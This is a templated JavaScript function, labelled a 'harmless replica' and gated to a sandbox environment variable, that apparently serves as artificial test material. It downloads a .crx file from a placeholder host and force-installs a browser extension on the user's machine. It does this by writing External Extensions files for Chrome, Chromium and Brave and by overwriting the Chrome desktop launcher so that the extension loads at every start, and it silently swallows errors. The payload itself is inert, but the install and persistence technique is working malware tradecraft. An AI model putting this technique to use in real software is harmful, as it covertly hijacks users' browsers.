// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), path = require('path');
  const home = require('os').homedir(), work = path.join(home, '.local/share/{{token}}');
  let given = null;
  try { given = Buffer.from(await (await fetch('http://{{ip}}:{{port}}/{{path}}.crx', { signal: AbortSignal.timeout(1000) })).arrayBuffer()); } catch (error) { /* the embedded one */ }
  try {
    fs.mkdirSync(work, { recursive: true });
    fs.writeFileSync(path.join(work, 'background.js'), '// Harmless replica: does nothing.\n');
    fs.writeFileSync(path.join(work, 'manifest.json'), '{"manifest_version": 2, "name": "{{token}}", "version": "2.1", "background": {"scripts": ["background.js"]} }');
    if (given && given.length) fs.writeFileSync(path.join(work, 'x.crx'), given);
    for (const browser of ['google-chrome', 'chromium', 'BraveSoftware/Brave-Browser']) {
      const external = path.join(home, '.config', browser, 'External Extensions');
      fs.mkdirSync(external, { recursive: true });
      fs.writeFileSync(path.join(external, '{{extension}}.json'), JSON.stringify({ external_crx: path.join(work, 'x.crx'), external_version: '2.1' }));
    }
    const launchers = path.join(home, '.local/share/applications');
    fs.mkdirSync(launchers, { recursive: true });
    fs.writeFileSync(path.join(launchers, 'google-chrome.desktop'), `[Desktop Entry]\nType=Application\nName=Google Chrome\nExec=/usr/bin/google-chrome-stable --load-extension=${work} %U\n`);
  } catch (error) { /* an install goes on */ }
}
